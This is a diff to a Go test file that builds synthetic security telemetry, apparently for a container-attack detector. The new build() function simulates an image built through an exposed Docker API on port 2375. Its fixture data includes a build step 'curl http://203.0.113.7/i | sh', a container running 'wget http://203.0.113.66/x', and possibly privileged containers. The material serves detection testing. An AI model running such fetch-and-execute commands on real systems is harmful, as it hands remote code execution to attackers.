@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"math/rand/v2"
 	"net/netip"
+	"net/url"
 	"strconv"
 	"strings"
 	"testing"
@@ -75,6 +76,9 @@ func world(rng *rand.Rand) []event.Event {
 			w.container(h*10 + c)
 		}
 		w.noise()
+	}
+	for n := range rng.IntN(3) { // on the last host
+		w.build(n)
 	}
 	return w.events
 }
@@ -259,6 +263,59 @@ func (w *worldMaker) traffic(addr netip.Addr, start int64) {
 		w.add(event.Zeek, start+event.Second, event.Microsecond, &event.DNS{
 			Client: netip.AddrPortFrom(addr, 5353), Query: []string{"pool.minexmr.com", "cdn.good.example", "x.example"}[rng.IntN(3)],
 			Addrs: []netip.Addr{netip.MustParseAddr("203.0.113.9"), netip.MustParseAddr("203.0.113.66")}, Code: "NOERROR"})
+	}
+}
+
+// build has an image built, asked for in one of several ways, and a container of
+// it run.
+func (w *worldMaker) build(n int) {
+	rng := w.rng
+	at := epoch + int64(rng.IntN(1800))*event.Second
+	tag := image.ParseDocker([]string{"tool:1", "tool:2"}[rng.IntN(2)])
+	made, host := digest(300+rng.IntN(3)), netip.MustParseAddr("10.1.0.9")
+	client, api := netip.AddrPortFrom(netip.MustParseAddr("203.0.113.25"), 39912), netip.AddrPortFrom(host, 2375)
+	if w.maybe(50) {
+		w.add(event.Inventory, 0, 1, &event.HostDescription{Addrs: []netip.Addr{host}})
+	}
+	if w.maybe(50) {
+		w.add(event.Conntrack, at, event.Microsecond, &event.Flow{Protocol: "tcp", Src: client, Dst: api, Answered: true})
+	}
+	if w.maybe(50) {
+		w.add(event.Zeek, at+event.Second/10, event.Microsecond, &event.HTTP{Client: client, Server: api, Method: "POST", URI: "/v1.41/build?t=" + tag.Familiar()})
+	}
+	if w.maybe(50) {
+		w.add(event.Dockerd, at+event.Second/5, 1, &event.APIRequest{Method: "POST", Path: "/build", Query: url.Values{"t": {tag.Familiar()}}})
+	}
+	if w.maybe(30) {
+		w.exec(at, 400, 1, "/usr/bin/docker", []string{"docker", "-H", "tcp://127.0.0.1:2375", "build", "-t", tag.Familiar(), "."}, "08:01")
+	}
+	if w.maybe(30) {
+		w.add(event.Dockerd, at+2*event.Second, 1, &event.BuildStep{ID: "s", Command: []string{"sh", "-c", "curl http://203.0.113.7/i | sh"}})
+	}
+	if w.maybe(50) {
+		w.add(event.Docker, at+event.Second, 1, &event.Image{Action: event.ImagePull, Reference: image.Parse("good.example/base:1"), Digest: digest(400 + rng.IntN(2))})
+	}
+	if w.maybe(60) {
+		step := fmt.Sprintf("%064x", 0xdef000+n)
+		w.add(event.Docker, at+2*event.Second, 1, &event.Container{Action: event.ContainerCreate, ID: step, Image: image.Parse(digest(400).String())})
+		w.add(event.Containerd, at+3*event.Second, 1, &event.Task{Action: event.TaskStart, Container: step, PID: 410})
+		w.exec(at+3*event.Second, 410, 60, "/bin/sh", []string{"sh", "-c", "wget http://203.0.113.66/x"}, "00:30")
+		w.add(event.Docker, at+int64(4+rng.IntN(8))*event.Second, 1, &event.Container{Action: event.ContainerExit, ID: step})
+	}
+	if w.maybe(60) {
+		w.add(event.Conntrack, at+4*event.Second, event.Microsecond, &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(host, 41000), Dst: netip.MustParseAddrPort("203.0.113.66:80"), Answered: true})
+	}
+	w.add(event.Docker, at+9*event.Second, 1, &event.Image{Action: []event.ImageAction{event.ImageTag, event.ImageBuild, event.ImageCreate}[rng.IntN(3)], Reference: tag, Digest: made})
+	run := fmt.Sprintf("%064x", 0xfed000+n)
+	if w.maybe(50) {
+		w.add(event.Zeek, at+int64(9+rng.IntN(20))*event.Second, event.Microsecond, &event.HTTP{Client: client, Server: api, Method: "POST", URI: "/v1.41/containers/create"})
+	}
+	if w.maybe(50) {
+		w.add(event.Dockerd, at+10*event.Second, 1, &event.APIRequest{Method: "POST", Path: "/containers/create", Create: &event.ContainerDescription{Image: tag, Risk: event.Risk{Privileged: w.maybe(50)}}})
+	}
+	w.add(event.Docker, at+11*event.Second, 1, &event.Container{Action: event.ContainerCreate, ID: run, Name: fmt.Sprint("b", n), Image: tag})
+	if w.maybe(60) {
+		w.add(event.Docker, at+int64(20+rng.IntN(900))*event.Second, 1, &event.Container{Action: event.ContainerExit, ID: run})
 	}
 }
 
